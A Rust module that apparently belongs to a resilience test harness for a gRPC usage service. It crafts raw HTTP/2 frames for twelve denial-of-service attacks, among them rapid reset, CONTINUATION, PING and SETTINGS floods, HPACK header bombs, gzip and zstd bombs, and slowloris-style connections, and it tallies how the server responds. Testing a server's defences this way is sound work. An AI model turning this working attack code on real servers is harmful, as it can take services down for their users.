//! What attackers do.

use std::fmt;
use std::net::SocketAddr;

use tokio_util::sync::CancellationToken;

use super::bombs::{Bomb, Bombs};
use super::crowd;
use super::flood::{self, Flood};
use crate::http2::frame::{NEWEST_ENTRY, call, flag, frame, kind, message, remembered_header};

const RECORD: &str = "/tollgate.v1.UsageService/RecordUsage";
/// Frames of one piece of a flood.
const PIECE: u32 = 64;
/// Error code with which a client gives a stream up.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Largest content of a frame that a server must take.
const FULL_FRAME: usize = 16 << 10;

/// An attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Attack {
    RapidReset,
    Continuations,
    Pings,
    Settings,
    EmptyData,
    HeaderBomb,
    GzipBomb,
    ZstdBomb,
    UnfinishedMessages,
    IdleConnections,
    SlowPreface,
    SlowHeaders,
}

/// What became of an attack.
#[derive(Debug, Clone, Copy, Default)]
pub(super) struct Tally {
    /// Pieces that were sent, or connections that were tried.
    pub(super) attempts: u64,
    /// Connections that the server held at once, where many were opened.
    pub(super) held: u64,
    /// Connections that the server ended.
    pub(super) ended: u64,
}

impl fmt::Display for Tally {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self { attempts, held, ended } = self;
        write!(formatter, "{attempts} attempts, at most {held} connections at once, {ended} ended by the server")
    }
}

impl Attack {
    pub(super) const ALL: [Self; 12] = [
        Self::RapidReset,
        Self::Continuations,
        Self::Pings,
        Self::Settings,
        Self::EmptyData,
        Self::HeaderBomb,
        Self::GzipBomb,
        Self::ZstdBomb,
        Self::UnfinishedMessages,
        Self::IdleConnections,
        Self::SlowPreface,
        Self::SlowHeaders,
    ];

    pub(super) fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::Continuations => "endless CONTINUATION frames",
            Self::Pings => "PING flood",
            Self::Settings => "SETTINGS flood",
            Self::EmptyData => "empty DATA frames",
            Self::HeaderBomb => "header bombs",
            Self::GzipBomb => "gzip bombs",
            Self::ZstdBomb => "zstd bombs",
            Self::UnfinishedMessages => "messages that never end",
            Self::IdleConnections => "idle connections, and more than are allowed",
            Self::SlowPreface => "slow prefaces",
            Self::SlowHeaders => "slow headers",
        }
    }

    /// Attacks until it is told to stop, and tells when it is at full strength.
    pub(super) async fn run(
        self,
        address: SocketAddr,
        bombs: Bombs,
        ready: CancellationToken,
        stop: CancellationToken,
    ) -> anyhow::Result<Tally> {
        if self != Self::IdleConnections {
            ready.cancel();
        }
        match self {
            Self::IdleConnections => crowd::idle(address, ready, stop).await,
            Self::SlowPreface => crowd::slow_preface(address, stop).await,
            Self::SlowHeaders => crowd::slow_headers(address, stop).await,
            Self::RapidReset => flood::run(address, stop, Flood::each_stream(100, resets)).await,
            Self::Continuations => {
                let open = frame(kind::HEADERS, flag::NONE, 1, &call(RECORD, &[]));
                flood::run(
                    address,
                    stop,
                    Flood::one_stream(open, repeated(&frame(kind::CONTINUATION, flag::NONE, 1, &[]))),
                )
                .await
            }
            Self::Pings => {
                flood::run(
                    address,
                    stop,
                    Flood::one_stream(Vec::new(), repeated(&frame(kind::PING, flag::NONE, 0, &[0; 8]))),
                )
                .await
            }
            Self::Settings => {
                // A new size of the table of headers each time: the most work that settings can make.
                let settings = [[0, 1, 0, 0, 0, 0], [0, 1, 0, 0, 16, 0]].concat();
                flood::run(
                    address,
                    stop,
                    Flood::one_stream(Vec::new(), repeated(&frame(kind::SETTINGS, flag::NONE, 0, &settings))),
                )
                .await
            }
            Self::EmptyData => {
                let open = frame(kind::HEADERS, flag::END_HEADERS, 1, &call(RECORD, &[]));
                flood::run(address, stop, Flood::one_stream(open, repeated(&frame(kind::DATA, flag::NONE, 1, &[]))))
                    .await
            }
            Self::HeaderBomb => flood::run(address, stop, Flood::each_stream(10, remembered)).await,
            Self::GzipBomb => flood::run(address, stop, inflating(bombs.gzip)).await,
            Self::ZstdBomb => flood::run(address, stop, inflating(bombs.zstd)).await,
            Self::UnfinishedMessages => flood::run(address, stop, Flood::each_stream(1, unfinished)).await,
        }
    }
}

fn repeated(frame: &[u8]) -> Vec<u8> {
    frame.repeat(PIECE as usize)
}

/// A call, given up before anybody looked at it.
fn resets(stream: u32) -> Vec<u8> {
    let open = frame(kind::HEADERS, flag::END_HEADERS, stream, &call(RECORD, &[]));
    [open, frame(kind::RST_STREAM, flag::NONE, stream, &CANCEL)].concat()
}

/// One header of four kilobytes, told fifteen thousand times in a byte each.
fn remembered(stream: u32) -> Vec<u8> {
    let mut list = call(RECORD, &[]);
    list.extend(remembered_header("x-bomb", &[b'x'; 3_900]));
    list.resize(FULL_FRAME, NEWEST_ENTRY);
    frame(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &list)
}

/// Compressed messages that are small as they are sent.
fn inflating(bomb: Bomb) -> Flood {
    let Bomb { encoding, bytes, .. } = bomb;
    let message = message(true, &bytes);
    Flood::each_stream(2, move |stream| {
        let list = call(RECORD, &[("grpc-encoding", encoding.as_bytes())]);
        let mut sent = frame(kind::HEADERS, flag::END_HEADERS, stream, &list);
        let parts = message.chunks(FULL_FRAME);
        let last = parts.len().saturating_sub(1);
        for (number, part) in parts.enumerate() {
            let flags = if number == last { flag::END_STREAM } else { flag::NONE };
            sent.extend(frame(kind::DATA, flags, stream, part));
        }
        sent
    })
}

/// A message of almost a megabyte of which the last byte never comes.
fn unfinished(stream: u32) -> Vec<u8> {
    const LENGTH: u32 = 900 << 10;
    let mut bytes = frame(kind::HEADERS, flag::END_HEADERS, stream, &call(RECORD, &[]));
    let mut first = vec![0];
    first.extend(LENGTH.to_be_bytes());
    bytes.extend(frame(kind::DATA, flag::NONE, stream, &first));
    let full = frame(kind::DATA, flag::NONE, stream, &[0; FULL_FRAME]);
    let whole = usize::try_from(LENGTH).unwrap_or(usize::MAX) / FULL_FRAME;
    bytes.extend(full.repeat(whole));
    bytes
}
